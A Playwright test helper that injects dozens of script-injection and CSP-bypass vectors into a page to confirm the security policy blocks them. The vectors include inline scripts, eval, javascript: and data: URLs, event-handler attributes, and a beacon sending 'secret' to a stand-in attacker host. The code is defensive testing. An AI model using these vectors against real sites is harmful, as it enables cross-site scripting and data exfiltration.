import type { Page } from 'playwright/test';

/** Where a page must never load anything from, and what stands there is `HostileWeb`. */
const there = 'https://stranger.example/hostile/';

/**
 * What somebody tries who got a word into a page of ours. Each runs in the page and says by
 * `broke(name)` that it worked; what only its server can see is asked for as `there/name`.
 */
export interface Breaks {
  /** How many were tried. */
  tried: number;
  /** The names of those that worked, as far as the page sees it. */
  worked: string[];
}

export const tryToBreak = (page: Page): Promise<Breaks> =>
  page.evaluate(async (far) => {
    const worked: string[] = [];
    const broke = (name: string): void => void worked.push(name);
    Object.assign(window, { broke });
    const add = (tag: string, properties: object, attributes: Record<string, string> = {}) => {
      const made = Object.assign(document.createElement(tag), properties);
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
      made.addEventListener('load', () => {
        // A frame also tells that it loaded nothing.
        if (!/iframe|object|embed/.test(tag)) broke(`${tag} loaded`);
      });
      document.body.append(made);
      return made;
    };
    const blob = (code: string, type: string): string =>
      URL.createObjectURL(new Blob([code], { type }));
    const run = (name: string): string => `(self.broke || top.broke || postMessage)('${name}')`;
    const color = (): string => getComputedStyle(document.documentElement).outlineColor;
    const before = color();
    // By name: called by itself, the linter would rightly refuse it.
    type Loose = (...words: unknown[]) => unknown;
    const loose = window as unknown as Record<string, Loose>;

    const breaks: Record<string, () => unknown> = {
      'inline script': () => add('script', { textContent: run('inline script') }),
      'inline module': () => add('script', { type: 'module', textContent: run('inline module') }),
      'import map': () =>
        add('script', { type: 'importmap', textContent: `{"imports":{"x":"${far}map"}}` }),
      eval: () => loose['eval']!(run('eval')),
      'a function of text': () => (loose['Function']!(run('a function of text')) as () => void)(),
      'a function of text that waits': () =>
        (
          ((async () => {}).constructor as Loose)(
            run('a function of text that waits'),
          ) as () => void
        )(),
      'a timer of text': () => loose['setTimeout']!(run('a timer of text')),
      'an interval of text': () => {
        const interval = loose['setInterval']!(run('an interval of text'), 10) as number;
        setTimeout(() => clearInterval(interval), 100);
      },
      WebAssembly: () =>
        WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() =>
          broke('WebAssembly'),
        ),
      'an attribute that hears': () => {
        const button = add('button', {}, { onclick: run('an attribute that hears') });
        button.click();
      },
      'a picture that fails': () =>
        add('img', { src: 'data:,' }, { onerror: run('a picture that fails') }),
      'markup with a script': () => {
        const holder = add('div', {});
        holder.innerHTML = `<img src="data:,"><svg onload="${run('markup with a script')}">`;
      },
      'a parsed document': () => {
        const range = document.createRange();
        range.selectNode(document.body);
        const made = `<script>${run('a parsed document')}</script>`;
        document.body.append(range.createContextualFragment(made));
      },
      'text for a trusted place': () => {
        const holder = document.createElement('div');
        holder.innerHTML = '<b>text</b>';
        if (holder.firstChild) broke('text for a trusted place');
      },
      'trust of one’s own': () => {
        type Trusting = { trustedTypes: { createPolicy(name: string, rules: object): unknown } };
        (window as unknown as Trusting).trustedTypes.createPolicy('own', {});
        broke('trust of one’s own');
      },
      'a javascript: link': () =>
        add('a', { href: `javascript:${run('a javascript: link')}` }).click(),
      'a javascript: frame': () =>
        add('iframe', { src: `javascript:${run('a javascript: frame')}` }),
      'a frame of text': () =>
        add('iframe', { srcdoc: `<script>${run('a frame of text')}</script>` }),
      'a data: script': () =>
        add('script', { src: `data:text/javascript,${run('a data: script')}` }),
      'a blob: script': () =>
        add('script', { src: blob(run('a blob: script'), 'text/javascript') }),
      'a data: module': () => import(/* @vite-ignore */ `data:text/javascript,${run('module')}`),
      'a blob: worker': () => {
        const worker = new Worker(blob('postMessage(1)', 'text/javascript'));
        worker.addEventListener('message', () => broke('a blob: worker'));
      },
      'a data: worker': () => {
        const worker = new Worker('data:text/javascript,postMessage(1)');
        worker.addEventListener('message', () => broke('a data: worker'));
      },
      'a shared worker': () => {
        const { port } = new SharedWorker(blob('onconnect=e=>e.ports[0].postMessage(1)', ''));
        port.onmessage = () => broke('a shared worker');
      },
      'a service worker': () =>
        navigator.serviceWorker.register(`${far}script`).then(() => broke('a service worker')),
      'a data: frame': () =>
        add('iframe', { src: `data:text/html,<script>parent.postMessage('frame','*')</script>` }),
      'a blob: frame': () =>
        add('iframe', { src: blob(`<script>${run('a blob: frame')}</script>`, 'text/html') }),
      'a style sheet in the page': () =>
        add('style', { textContent: ':root{outline-color:rgb(1,2,3)!important}' }),
      'a style attribute': () => {
        document.documentElement.setAttribute('style', 'outline-color:rgb(1,2,3)!important');
      },
      'a data: style sheet': () =>
        add('link', { rel: 'stylesheet', href: 'data:text/css,:root{outline-color:rgb(1,2,3)}' }),
      'a foreign script': () => add('script', { src: `${far}script` }),
      'a foreign module': () => add('script', { type: 'module', src: `${far}script?module` }),
      'a script for later': () => import(/* @vite-ignore */ `${far}script?import`),
      'a foreign worker': () => new Worker(`${far}script?worker`),
      'a foreign style sheet': () => add('link', { rel: 'stylesheet', href: `${far}style` }),
      'a style sheet that imports': () => {
        const sheet = new CSSStyleSheet();
        sheet.replaceSync(`:root{background:url(${far}picture?sheet)}`);
        document.adoptedStyleSheets = [sheet];
      },
      'a foreign picture': () => add('img', { src: `${far}picture` }),
      'a foreign picture by choice': () => add('img', { srcset: `${far}picture 1x` }),
      'a foreign picture in a drawing': () => {
        const drawing = document.createElementNS('http://www.w3.org/2000/svg', 'image');
        drawing.setAttribute('href', `${far}picture?drawing`);
        add('svg', {}).append(drawing);
      },
      'a foreign icon': () => add('link', { rel: 'icon', href: `${far}picture?icon` }),
      'a foreign font': () => new FontFace('far', `url(${far}font)`).load(),
      'a foreign film': () => add('video', { src: `${far}film`, autoplay: true }),
      'a foreign sound': () => new Audio(`${far}sound`).play(),
      'a foreign subtitle': () => {
        const track = { src: `${far}subtitle`, default: true };
        add('video', { src: 'data:video/mp4,' }).append(
          Object.assign(document.createElement('track'), track),
        );
      },
      'a foreign frame': () => add('iframe', { src: `${far}page` }),
      'a foreign plug-in': () => add('object', { data: `${far}page?object` }),
      'a foreign embedded page': () => add('embed', { src: `${far}page?embed` }),
      'a webview': () => add('webview', {}, { src: `${far}page?webview` }),
      'a portal': () => add('portal', { src: `${far}page?portal` }),
      'a request': () => fetch(`${far}page?fetch`, { mode: 'no-cors' }).then(() => broke('fetch')),
      'an old request': () => {
        const request = new XMLHttpRequest();
        request.open('GET', `${far}page?xhr`);
        request.send();
      },
      'a beacon': () => navigator.sendBeacon(`${far}page?beacon`, 'secret'),
      'a stream of events': () => new EventSource(`${far}events`),
      'a WebSocket': () => new WebSocket('wss://stranger.example/hostile/socket'),
      'a plain WebSocket': () => new WebSocket('ws://plain.example/hostile/socket'),
      'another base': () => {
        const base = document.createElement('base');
        base.href = far;
        document.head.prepend(base);
        add('img', { src: 'picture?base' });
        base.remove();
      },
      'a form': () => (add('form', { action: `${far}page?form` }) as HTMLFormElement).submit(),
      'a form into a frame': () => {
        add('iframe', { name: 'inside' });
        const form = add('form', { action: `${far}page?form-in`, target: 'inside' });
        (form as HTMLFormElement).submit();
      },
      'a manifest': () => add('link', { rel: 'manifest', href: `${far}manifest` }),
      'something for later': () => add('link', { rel: 'prefetch', href: `${far}page?prefetch` }),
      'something soon': () => add('link', { rel: 'preload', as: 'image', href: `${far}picture` }),
      'a module soon': () => add('link', { rel: 'modulepreload', href: `${far}script?soon` }),
      'a page soon': () => add('link', { rel: 'prerender', href: `${far}page?prerender` }),
      'rules of speculation': () =>
        add('script', {
          type: 'speculationrules',
          textContent: `{"prefetch":[{"source":"list","urls":["${far}page?rules"]}]}`,
        }),
      'a ping': () => {
        const link = add('a', { href: '#', ping: `${far}page?ping` });
        link.click();
        history.replaceState(null, '', location.pathname);
      },
      'a looser policy': () => {
        const looser = { httpEquiv: 'Content-Security-Policy', content: 'default-src *' };
        document.head.append(Object.assign(document.createElement('meta'), looser));
        return fetch(`${far}page?loose`, { mode: 'no-cors' }).then(() => broke('looser policy'));
      },
    };

    window.addEventListener('message', ({ data }) => {
      if (data === 'frame') broke('a data: frame');
    });
    // Not as part of the call that came from outside: to that much is allowed that is not to a page.
    await new Promise((resolve) => setTimeout(resolve));
    let tried = 0;
    for (const attempt of Object.values(breaks)) {
      tried += 1;
      try {
        void Promise.resolve(attempt()).catch(() => undefined);
      } catch {
        // Chromium says no by an exception, or in silence.
      }
      // One navigation would end the one before.
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
    await new Promise((resolve) => setTimeout(resolve, 700));
    if (color() !== before) broke('a style');
    return { tried, worked };
  }, there);
